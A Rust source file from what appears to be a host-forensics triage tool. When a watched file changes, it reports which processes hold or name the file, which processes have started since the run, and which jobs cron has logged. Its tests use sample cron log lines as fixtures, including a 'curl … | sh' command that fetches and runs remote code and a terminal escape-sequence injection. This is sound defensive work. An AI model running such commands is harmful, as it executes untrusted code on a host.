//! Who wrote to an object that changed again, as far as that can still be seen.
//!
//! A change is seen up to half a second after it was made, and by then its writer may have ended: then nobody can name it, and that is said.
//! What is told instead: who has the object open or names it, which processes began since the run, and which jobs cron has started meanwhile.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs;
use std::io::{Read as _, Seek as _, SeekFrom};
use std::os::unix::ffi::OsStrExt as _;
use std::path::{Path, PathBuf};
use triage_core::action::State;
use triage_core::model::{EvidencePath, escape};

/// Where cron tells what it runs: its own log of Red Hat's family, the system's of Debian's.
const CRON_LOGS: [&str; 4] = ["/var/log/cron", "/var/log/cron.log", "/var/log/syslog", "/var/log/messages"];
/// The most that is read of what a log has grown by, in bytes.
const MOST: u64 = 256 * 1024;
/// The most processes, and jobs, that are told.
const TOLD: usize = 5;

/// What there was when the watch began.
pub(super) struct Writers {
    /// Says that the root is that of the running host; of any other nobody is seen.
    is_live: bool,
    known: BTreeSet<u32>,
    logs: Vec<(PathBuf, u64)>,
}

impl Writers {
    pub(super) fn new(root: &Path) -> Self {
        let is_live = root == Path::new("/");
        if !is_live {
            return Self { is_live, known: BTreeSet::new(), logs: Vec::new() };
        }
        let length = |path: &&str| Some((PathBuf::from(path), fs::metadata(path).ok()?.len()));
        Self { is_live, known: processes().collect(), logs: CRON_LOGS.iter().filter_map(length).collect() }
    }

    /// Whose the object is now, and who may have written it. Begins with `; ` where there is something to say.
    pub(super) fn of(&mut self, path: &EvidencePath, now: &State) -> String {
        let mut out = match now {
            State::Present(present) => format!("; it belongs to user {}", present.meta.uid),
            State::Absent | State::Live(_) => String::new(),
        };
        if !self.is_live {
            return out;
        }
        let holders = holders(path);
        for (pid, command) in holders.iter().take(TOLD) {
            let _ = write!(out, "; process {pid} has it: {command}");
        }
        if holders.is_empty() {
            out.push_str("; who wrote it has ended or closed it, and cannot be named");
        }
        let own = std::process::id();
        let begun = processes().filter(|pid| *pid != own && !self.known.contains(pid));
        let begun: Vec<(u32, String)> =
            begun.filter_map(|pid| Some((pid, command_of(pid).filter(|text| !text.is_empty())?))).collect();
        for (pid, command) in begun.iter().filter(|(pid, _)| !holders.iter().any(|(other, _)| other == pid)).take(TOLD)
        {
            let _ = write!(out, "; process {pid} began since the run: {command}");
        }
        for job in self.jobs().iter().rev().take(TOLD) {
            let _ = write!(out, "; cron ran: {job}");
        }
        out
    }

    /// The jobs that cron has told of since it was last asked.
    fn jobs(&mut self) -> Vec<String> {
        let mut found = Vec::new();
        for (path, length) in &mut self.logs {
            let Ok(mut file) = fs::File::open(&path) else { continue };
            let now = file.metadata().map_or(0, |found| found.len());
            // A log that is shorter was rotated, and begins anew.
            let from = if now < *length { 0 } else { (*length).max(now.saturating_sub(MOST)) };
            *length = now;
            let mut text = Vec::new();
            if file.seek(SeekFrom::Start(from)).is_ok() && file.take(MOST).read_to_end(&mut text).is_ok() {
                found.extend(text.split(|&byte| byte == b'\n').filter_map(job_in));
            }
        }
        found
    }
}

/// What cron says of a job that it starts: `… CRON[123]: (root) CMD (/tmp/.k)`.
fn job_in(line: &[u8]) -> Option<String> {
    let text = escape(line);
    let (before, command) = text.split_once(" CMD ")?;
    let user = before.rsplit_once(' ').map_or(before, |(_, user)| user);
    let is_crons = before.to_ascii_lowercase().contains("cron");
    is_crons.then(|| format!("{user} {}", command.trim()))
}

fn processes() -> impl Iterator<Item = u32> {
    fs::read_dir("/proc").into_iter().flatten().flatten().filter_map(|entry| entry.file_name().to_str()?.parse().ok())
}

/// The command line of a process; empty for one of the kernel's own.
fn command_of(pid: u32) -> Option<String> {
    let command = fs::read(format!("/proc/{pid}/cmdline")).ok()?;
    let words: Vec<String> = command.split(|&byte| byte == 0).filter(|word| !word.is_empty()).map(escape).collect();
    Some(words.join(" "))
}

/// Processes that have a file open or name it among their arguments, with their command lines.
fn holders(path: &EvidencePath) -> Vec<(u32, String)> {
    let own = std::process::id();
    let mut found = Vec::new();
    for pid in processes().filter(|pid| *pid != own) {
        let command = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let has_open = || {
            let links = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
            links
                .filter_map(|link| fs::read_link(link.path()).ok())
                .any(|to| to.as_os_str().as_bytes() == path.as_bytes())
        };
        let names = || command.split(|&byte| byte == 0).any(|word| word == path.as_bytes());
        if names() || has_open() {
            found.push((pid, command_of(pid).unwrap_or_default()));
        }
    }
    found
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::disallowed_methods)]
    use super::*;

    #[test]
    fn a_job_is_told_from_both_families_logs_and_from_nothing_else() {
        for (line, wanted) in [
            (
                "Jan  2 03:04:01 pbx CRON[812]: (root) CMD (curl http://192.0.2.7/k | sh)",
                Some("(root) (curl http://192.0.2.7/k | sh)"),
            ),
            ("Jan  2 03:04:01 pbx CROND[812]: (asterisk) CMD (/tmp/.k\x1b[2J)", Some("(asterisk) (/tmp/.k\\x1b[2J)")),
            ("Jan  2 03:04:01 pbx sshd[1]: (root) CMD (x)", None),
            ("Jan  2 03:04:01 pbx CRON[812]: pam_unix(cron:session): session opened", None),
        ] {
            assert_eq!(job_in(line.as_bytes()).as_deref(), wanted, "{line}");
        }
    }

    #[test]
    fn of_another_hosts_root_nobody_is_named() {
        let mut writers = Writers::new(Path::new("/nonexistent"));
        assert_eq!(writers.of(&EvidencePath::root(), &State::Absent), "");
    }

    #[test]
    fn a_log_that_grew_tells_its_new_jobs_once_and_a_rotated_one_begins_anew() {
        let file = tempfile::NamedTempFile::new().unwrap();
        let write = |text: &str| fs::write(file.path(), text).unwrap();
        let line = |command: &str| format!("Jan  2 03:04:01 pbx CRON[1]: (root) CMD ({command})\n");
        write(&line("old, before the watch began"));
        let length = fs::metadata(file.path()).unwrap().len();
        let mut writers =
            Writers { is_live: true, known: BTreeSet::new(), logs: vec![(file.path().to_owned(), length)] };
        assert!(writers.jobs().is_empty());
        write(&[line("old, before the watch began"), line("new")].concat());
        assert_eq!(writers.jobs(), ["(root) (new)"]);
        assert!(writers.jobs().is_empty());
        write(&line("after"));
        assert_eq!(writers.jobs(), ["(root) (after)"]);
    }
}
